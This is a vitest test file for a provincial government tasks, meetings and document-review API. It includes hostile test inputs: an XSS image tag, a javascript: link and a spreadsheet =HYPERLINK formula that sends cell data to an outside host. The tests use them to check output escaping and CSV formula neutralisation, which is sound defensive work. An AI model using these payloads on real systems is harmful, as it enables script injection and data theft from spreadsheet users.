/*
 * Work that moves through the real program: a disposition of the secretary of the province through the head of
 * an agency and the head of a division to a person and back, what the rules refuse, a meeting over two agencies,
 * a document that is looked at, and the backlog that follows in the same moment. docs/WORK.md, "Tasks".
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoServer, employeeLogin, loginOf, logins, verb, type Client, type Login, type Server } from './server';

const HOSTILE = '<img src=x onerror=alert(1)>"\'&=1+1';

let server: Server, all: Login[], bkd: Client;
let sekda: Client, kadis: Client, boss: Client, worker: Client, stranger: Client;
const who: Record<string, any> = {};
let agency: string, division: string, setda: string;

/** Somebody by id, signed in; everybody of the demo has one password. */
async function signIn(id: string): Promise<Client> {
  const person = (await bkd.get(`/api/v1/org/employees/${id}`)).body;
  const found = (await bkd.get(`/api/v1/org/units/${person.placements[0].unit}/employees?limit=200`)).body.items.find((p: any) => p.id === id);
  return server.client().signIn({ role: 'supervisor', government: 'jabar', nip: found.nip, password: all[0]!.password });
}
const superior = async (id: string) => (await bkd.get(`/api/v1/org/employees/${id}`)).body.superiors.find((s: any) => s.relation === 'supervisor').employee as string;

beforeAll(async () => {
  server = await demoServer();
  all = logins(server.db);
  bkd = await server.client().signIn(loginOf(all, 'bkd'));
  worker = await server.client().signIn(employeeLogin(all, 'home'));
  stranger = await server.client().signIn(employeeLogin(all, 'teacher'));
  who.worker = (await worker.get('/api/v1/me')).body;
  const chief = await superior(who.worker.employee), head = await superior(chief);
  boss = await signIn(chief);
  kadis = await signIn(head);
  sekda = await signIn(await superior(head));
  for (const [name, c] of [['boss', boss], ['kadis', kadis], ['sekda', sekda]] as const) who[name] = (await c.get('/api/v1/me')).body;
  agency = who.kadis.unit.agency;
  division = who.boss.unit.id;
  setda = who.sekda.unit.agency;
});
afterAll(() => server.remove());

const ok = (r: any) => { expect(r.status, r.text).toBeLessThan(300); return r.body; };
const open = async (unit?: string) => ok(await bkd.get(`/api/v1/tasks/backlog${unit ? `?unit=${unit}` : ''}`)).total.open_tasks as number;
const task = async (c: Client, id: string) => ok(await c.get(`/api/v1/tasks/${id}`));
const act = (c: Client, id: string, what: string, version: number, more: object = {}) => c.post(`/api/v1/tasks/${id}/${what}`, { version, ...more });

describe('a disposition', () => {
  let first: string, second: string, third: string, before: number;

  it('goes from the secretary to the head of an agency, with its number in the letter register', async () => {
    before = await open(agency);
    const sent = ok(await sekda.post('/api/v1/tasks', { kind: 'disposition', subject: `Data jembatan ${HOSTILE}`, body: HOSTILE, unit: agency, due: '2025-11-20', letter_number: '600/77/Set', letter_link: 'https://srikandi.arsip.go.id/77' }));
    expect(sent.due).toBe('2025-11-20');
    first = sent.task;
    expect(await open(agency)).toBe(before + 1);
    const mine = ok(await kadis.get('/api/v1/tasks/inbox')).items.find((x: any) => x.task === first);
    expect(mine).toMatchObject({ state: 'sent', letter_number: '600/77/Set', from_office: true, past_due: false, is_left: false });
    expect(mine.subject).toBe(`Data jembatan ${HOSTILE}`); /* as it was written; the page shows it as text */
  });
  it('is nobody else\'s: a stranger reads what is not there', async () => {
    const strip = (r: any) => r.text.replace(/"request_id":"[^"]*"/, '');
    const there = await stranger.get(`/api/v1/tasks/${first}`), missing = await stranger.get('/api/v1/tasks/1');
    expect([there.status, strip(there)]).toEqual([404, strip(missing)]);
    expect((await act(stranger, first, 'accept', 1)).status).toBe(404);
    expect((await act(worker, first, 'done', 1, { note: 'Sudah selesai' })).status).toBe(404);
  });
  it('is passed on through the head of the division to a person', async () => {
    ok(await act(kadis, first, 'pass', 1, { employees: [who.boss.employee], note: 'Rabu di meja saya' }));
    second = (await task(kadis, first)).children[0].task;
    ok(await act(boss, second, 'pass', 1, { employees: [who.worker.employee], note: 'Mulai dari wilayah barat' }));
    third = (await task(boss, second)).children[0].task;
    expect(await open(agency)).toBe(before + 3);
    const seen = await task(worker, third);
    expect(seen.line.map((l: any) => l.body)).toEqual([HOSTILE, 'Rabu di meja saya']);
    expect(seen.body).toBe('Mulai dari wilayah barat');
    expect((await task(sekda, third)).may_close).toBe(false); /* who sent it follows it down, and acts on his own */
  });
  it('is done from below: nobody says so while what he passed on is open', async () => {
    expect((await act(kadis, first, 'done', 2, { note: 'Sudah selesai' })).body).toMatchObject({ code: 'conflict', pointer: '/task' });
    ok(await act(worker, third, 'done', 1, { note: 'Tabel 27 daerah' }));
    expect((await act(worker, third, 'close', 2)).status).toBe(422); /* nobody closes his own task */
    ok(await act(boss, third, 'return', 2, { note: 'Tambahkan foto kerusakan' }));
    expect((await act(worker, third, 'done', 2, { note: 'Sudah ditambah' })).body.code).toBe('stale');
    ok(await act(worker, third, 'done', 3, { note: 'Sudah ditambah' }));
    ok(await act(boss, third, 'close', 4));
    ok(await act(boss, second, 'done', 2, { note: 'Rekap selesai' }));
    ok(await act(kadis, second, 'close', 3));
    ok(await act(kadis, first, 'done', 2, { note: 'Data dikirim' }));
    ok(await act(sekda, first, 'close', 3));
    expect(await open(agency)).toBe(before);
    expect((await task(sekda, first)).thread.map((e: any) => e.kind)).toEqual(['sent', 'passed', 'done', 'closed']);
  });
  it('taken back is taken back with what it was passed on as', async () => {
    const { task: id } = ok(await sekda.post('/api/v1/tasks', { kind: 'disposition', subject: 'Bahan paparan', unit: agency }));
    ok(await act(kadis, id, 'pass', 1, { employees: [who.boss.employee] }));
    const child = (await task(kadis, id)).children[0].task;
    ok(await act(sekda, id, 'withdraw', 2, { note: 'Acara dibatalkan' }));
    expect((await task(boss, child)).task.state).toBe('withdrawn');
    expect(await open(agency)).toBe(before);
  });
});

describe('the rules', () => {
  const refused = async (c: Client, body: object) => { const r = await c.post('/api/v1/tasks', { kind: 'assignment', subject: 'Siapkan bahan', ...body }); return [r.status, r.body.pointer, r.body.reason]; };

  it.each([
    ['around the head into another unit', () => refused(sekda, { employee: who.worker.employee }), 422, '/employee', /its head decides/],
    ['a person turns to another unit himself', () => refused(worker, { unit: setda }), 422, '/unit', /only who heads a unit/],
    ['upwards', () => refused(boss, { unit: agency }), 422, '/unit', /above/],
    ['one\'s own unit', () => refused(boss, { unit: division }), 422, '/unit', /own unit/],
    ['a disposition to oneself', () => refused(worker, { kind: 'disposition', employee: who.worker.employee }), 422, '/employee', /down the line/],
    ['a decision without a meeting', () => refused(boss, { kind: 'decision', employee: who.worker.employee }), 400, '/kind', /meeting/],
    ['two at once', () => refused(boss, { employee: who.worker.employee, unit: setda }), 400, '/unit', /one of the two/],
    ['a day gone by', () => refused(boss, { employee: who.worker.employee, due: '2025-11-12' }), 400, '/due', /over/],
    ['an address that runs a script', () => refused(boss, { employee: who.worker.employee, letter_link: 'javascript:alert(1)' }), 400, '/letter_link', /https/],
  ] as const)('%s', async (_name, ask, status, pointer, reason) => {
    const [s, p, r] = await ask();
    expect([s, p]).toEqual([status, pointer]);
    expect(r).toMatch(reason);
  });
  it('let a task sent without a day be due in working days', async () => {
    const sent = ok(await boss.post('/api/v1/tasks', { kind: 'disposition', subject: 'Rapikan arsip', employee: who.worker.employee }));
    expect(sent.due).toBe('2025-11-20'); /* five of them from Thursday the 13th */
    expect((await act(worker, sent.task, 'return', 1, { note: 'x' })).body.pointer).toBe('/note');
  });
  it('show the lists page by page, the most urgent first', async () => {
    const items = ok(await worker.get('/api/v1/tasks/inbox')).items, due = items.map((x: any) => x.due);
    expect(items.length).toBeGreaterThan(2);
    expect(due).toEqual([...due].sort());
    expect((await worker.get('/api/v1/tasks/inbox?cursor=1')).status).toBe(400);
    const { items: past } = ok(await boss.get('/api/v1/tasks?box=past'));
    expect(past.every((x: any) => ['closed', 'withdrawn'].includes(x.state))).toBe(true);
  });
});

describe('a meeting over two agencies', () => {
  let id: string;
  const meeting = async (c: Client) => ok(await c.get(`/api/v1/meetings/${id}`));

  it('is called by a head; another unit is invited as its head, who names somebody', async () => {
    const body = { title: `Rapat ${HOSTILE}`, place: 'Aula', link: 'https://rapat.contoh.go.id/1', starts_at: '2025-11-13T00:10:00.000Z', ends_at: '2025-11-13T02:00:00.000Z', units: [agency], employees: [] };
    expect((await worker.post('/api/v1/meetings', { ...body, units: [setda] })).body.pointer).toBe('/units');
    id = ok(await sekda.post('/api/v1/meetings', body)).meeting;
    expect(ok(await kadis.get('/api/v1/meetings')).items.map((m: any) => m.meeting)).toContain(id);
    expect((await worker.get(`/api/v1/meetings/${id}`)).status).toBe(404);
    ok(await kadis.post(`/api/v1/meetings/${id}/name`, { invited: 1, employee: who.worker.employee }));
    expect((await meeting(worker)).may_attend).toBe(true);
  });
  it('is attended by one tap, once, and by nobody who is not invited', async () => {
    expect((await boss.post(`/api/v1/meetings/${id}/attend`, { way: 'on_site' })).status).toBe(404);
    ok(await worker.post(`/api/v1/meetings/${id}/attend`, { way: 'online' }));
    const { attended_at, attended_as } = await meeting(worker);
    ok(await worker.post(`/api/v1/meetings/${id}/attend`, { way: 'on_site' }));
    expect(await meeting(worker)).toMatchObject({ attended_at, attended_as });
    const [late] = ok(await worker.get('/api/v1/meetings?box=past')).items; /* of the demo, yesterday */
    const seen = ok(await worker.get(`/api/v1/meetings/${late.meeting}`));
    if (!seen.attended_as) expect((await worker.post(`/api/v1/meetings/${late.meeting}/attend`, { way: 'online' })).body.reason).toMatch(/over/);
    expect(seen.may_attend).toBe(false);
    const csv = (await sekda.get(`/api/v1/meetings/${id}/attendance?format=csv`)).text;
    expect(csv).toContain('daring');
  });
  it('has minutes once it began, by its convenor, and a decision that becomes a task', async () => {
    const minutes = (c: Client, version: number, decisions: string[]) => c.put(`/api/v1/meetings/${id}/minutes`, { version, minutes: HOSTILE, decisions: decisions.map(text => ({ text })) });
    const later = ok(await sekda.post('/api/v1/meetings', { title: 'Rapat pekan depan', place: 'Aula', starts_at: '2025-11-20T02:00:00.000Z', ends_at: '2025-11-20T03:00:00.000Z', units: [agency] })).meeting;
    expect((await sekda.put(`/api/v1/meetings/${later}/minutes`, { version: 1, minutes: 'Dibuka', decisions: [] })).body.reason).toMatch(/not begun/);
    expect((await kadis.post(`/api/v1/meetings/${later}/attend`, { way: 'on_site' })).body.reason).toMatch(/not begun/);
    ok(await sekda.post(`/api/v1/meetings/${later}/cancel`, { version: 1, note: 'Ditunda lagi' }));
    expect((await kadis.post(`/api/v1/meetings/${later}/attend`, { way: 'on_site' })).body.reason).toMatch(/cancelled/);
    ok(await minutes(sekda, 1, ['Dinas mengirim data', 'Rapat lagi pekan depan']));
    expect((await minutes(kadis, 2, [])).status).toBe(422);
    const made = ok(await sekda.post(`/api/v1/meetings/${id}/task`, { decision: 1, unit: agency, due: '2025-11-18' }));
    expect((await task(kadis, made.task)).task).toMatchObject({ kind: 'decision', meeting: id, subject: 'Dinas mengirim data', due: '2025-11-18' });
    expect((await minutes(sekda, 2, ['Lain'])).status).toBe(409);
    expect((await sekda.post(`/api/v1/meetings/${id}/task`, { decision: 1, unit: agency })).status).toBe(409);
  });
});

describe('a document', () => {
  it('is verified line by line, read by who looks at it, and looked at anew when it is replaced', async () => {
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
    const sha = ok(await worker.post('/api/v1/files', pdf, { 'content-type': 'application/octet-stream' })).sha256;
    const made = ok(await worker.post('/api/v1/tasks/checks', { title: HOSTILE, file_sha256: sha, file_name: 'draf.pdf', lines: [{ text: 'Substansi', employee: who.boss.employee }, { text: 'Dasar hukum', unit: setda }] }));
    const path = `/api/v1/tasks/checks/${made.check}`;
    expect((await stranger.get(`${path}/file`)).status).toBe(404);
    const file = await sekda.get(`${path}/file`);
    expect([file.status, file.headers.get('content-type'), file.headers.get('content-disposition')]).toEqual([200, 'application/pdf', expect.stringContaining('attachment')]);
    expect((await worker.post(`${path}/decide`, { line: 1, version: 1, accept: true })).status).toBe(422);
    ok(await boss.post(`${path}/decide`, { line: 1, version: 1, accept: true }));
    expect((await sekda.post(`${path}/decide`, { line: 2, version: 2, accept: false })).body.pointer).toBe('/note');
    expect(ok(await sekda.post(`${path}/decide`, { line: 2, version: 2, accept: false, note: HOSTILE })).state).toBe('objected');
    ok(await worker.post(`${path}/replace`, { version: 3, reference: '065/2' }));
    expect(ok(await worker.get(path))).toMatchObject({ check: { edition: 2, verified: 0, state: 'open' } });
    ok(await boss.post(`${path}/decide`, { line: 1, version: 4, accept: true }));
    expect(ok(await sekda.post(`${path}/decide`, { line: 2, version: 5, accept: true })).state).toBe('verified');
  });
});

describe('whom one may look up', () => {
  const named = async (c: Client, name: string) => ok(await c.get(`/api/v1/tasks/recipients?query=${encodeURIComponent(name)}`)).items as any[];
  const part = (full: string) => full.split(' ').sort((a, b) => b.length - a.length)[0]!.replace(/[.,]/g, '');

  it('is who stands along a line of the rules, no directory of the agency', async () => {
    const { items, is_head } = ok(await worker.get('/api/v1/tasks/recipients'));
    expect([is_head, items.map((x: any) => x.via).filter((v: string) => !['peer', 'superior', 'team', 'line'].includes(v))]).toEqual([false, []]);
    expect(items.find((x: any) => x.employee === who.boss.employee).via).toBe('superior');
    const listed = items.map((x: any) => x.employee);
    for (const name of ['siti', 'dewi', 'ahmad', 'nur', part(who.kadis.full_name)])
      expect((await named(worker, name)).map(x => x.employee).filter(x => !listed.includes(x)), name).toEqual([]);
    expect(await named(stranger, part(who.worker.full_name))).not.toContainEqual(expect.objectContaining({ employee: who.worker.employee }));
    expect(await named(worker, '%%%')).toEqual([]);
  });
  it('of a head also anybody in his units and below', async () => {
    expect(await named(kadis, part(who.worker.full_name))).toContainEqual(expect.objectContaining({ employee: who.worker.employee, via: 'unit' }));
    expect(await named(sekda, part(who.worker.full_name))).not.toContainEqual(expect.objectContaining({ employee: who.worker.employee }));
  });
  it('holds for who is asked and who is invited', async () => {
    const check = (c: Client, employee: string) => c.post('/api/v1/tasks/checks', { title: 'Draf', reference: '065/3', lines: [{ text: 'Substansi', employee }] });
    const meeting = (c: Client, employee: string) => c.post('/api/v1/meetings', { title: 'Rapat kecil', place: 'Aula', starts_at: '2025-11-20T02:00:00.000Z', ends_at: '2025-11-20T03:00:00.000Z', employees: [employee] });
    for (const ask of [check, meeting]) {
      const far = await ask(worker, who.kadis.employee);
      expect([far.status, far.body.reason]).toEqual([422, 'works in another unit: choose the unit, its head decides who']);
      expect((await ask(worker, who.worker.employee)).body.code).toBe('not_on_oneself');
      ok(await ask(worker, who.boss.employee));
      ok(await ask(kadis, who.worker.employee));
      expect((await ask(sekda, who.worker.employee)).status).toBe(422);
    }
  });
});

describe('what people write', () => {
  const EVIL = '=HYPERLINK("http://x.id?"&A1;"klik")<script>alert(1)</script>';

  it('leaves as text: no cell of any export is a formula, and no reply is a page', async () => {
    const file = ok(await worker.post('/api/v1/files', Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n% lain\n'), { 'content-type': 'application/octet-stream' })).sha256;
    const sent = ok(await boss.post('/api/v1/tasks', { kind: 'disposition', subject: EVIL, body: EVIL, employee: who.worker.employee, letter_number: `+${EVIL}`, letter_link: 'https://x.id/=1+1' })).task;
    ok(await worker.post(`/api/v1/tasks/${sent}/note`, { note: `-${EVIL}` }));
    const check = ok(await worker.post('/api/v1/tasks/checks', { title: EVIL, reference: `@${EVIL}`, link: 'https://x.id/@a', file_sha256: file, file_name: `${EVIL}.pdf`, lines: [{ text: EVIL, employee: who.boss.employee }] })).check;
    ok(await boss.post(`/api/v1/tasks/checks/${check}/decide`, { line: 1, version: 1, accept: false, note: EVIL }));
    const meeting = ok(await boss.post('/api/v1/meetings', { title: EVIL, agenda: EVIL, place: `\t${EVIL}`, link: 'https://x.id/r', letter_number: `-${EVIL}`, starts_at: '2025-11-13T00:10:00.000Z', ends_at: '2025-11-13T02:00:00.000Z', employees: [who.worker.employee] })).meeting;
    ok(await boss.put(`/api/v1/meetings/${meeting}/minutes`, { version: 1, minutes: EVIL, decisions: [{ text: EVIL }] }));
    const made = ok(await boss.post(`/api/v1/meetings/${meeting}/task`, { decision: 1, employee: who.worker.employee })).task;
    for (const [c, path, holds] of [[worker, '/api/v1/tasks/inbox?', true], [boss, '/api/v1/tasks?', true], [kadis, `/api/v1/tasks/units/${division}?`, true], [worker, '/api/v1/tasks/checks?', true], [worker, '/api/v1/meetings?', true], [worker, `/api/v1/meetings/${meeting}/attendance?`, false], [kadis, `/api/v1/tasks/backlog?unit=${agency}&`, false]] as const) {
      const csv = (await c.get(`${path}format=csv`)).text, cells = csv.replace(/^\uFEFF/, '').split(/[;\r\n]+"?/);
      expect(csv.includes('HYPERLINK'), path).toBe(holds);
      expect(cells.filter(x => /^[=+@\t]|^-[^0-9]/.test(x.replace(/^"/, ''))), path).toEqual([]);
    }
    for (const [c, path] of [[worker, `/api/v1/tasks/${sent}`], [worker, `/api/v1/tasks/${made}`], [boss, `/api/v1/tasks/checks/${check}`], [boss, `/api/v1/meetings/${meeting}`]] as const) {
      const r = await c.get(path);
      expect([r.headers.get('content-type'), r.headers.get('x-content-type-options')]).toEqual([expect.stringMatching(/^application\/json/), 'nosniff']);
      expect(JSON.stringify(r.body)).toContain('<script>alert(1)</script>');
    }
  });
});

describe('the backlog', () => {
  it('is of units and all below them, opens to the tasks behind it without a name, and is counted right', async () => {
    const government = ok(await bkd.get('/api/v1/tasks/backlog')), sum = (key: string) => government.items.reduce((n: number, u: any) => n + u[key], 0);
    expect(sum('open_tasks')).toBe(government.total.open_tasks);
    expect(sum('overdue')).toBe(government.total.overdue);
    expect(government.total.overdue).toBeGreaterThan(0);
    const listed = ok(await kadis.get(`/api/v1/tasks/units/${agency}`)).items;
    expect(listed).toHaveLength(ok(await kadis.get(`/api/v1/tasks/backlog?unit=${agency}`)).total.open_tasks);
    expect(JSON.stringify(listed)).not.toContain(who.worker.name);
    expect((await worker.get(`/api/v1/tasks/backlog?unit=${agency}`)).status).toBe(404);
    await server.stop();
    expect(verb('doctor', '--db', server.db)).not.toMatch(/backlog/);
  });
});
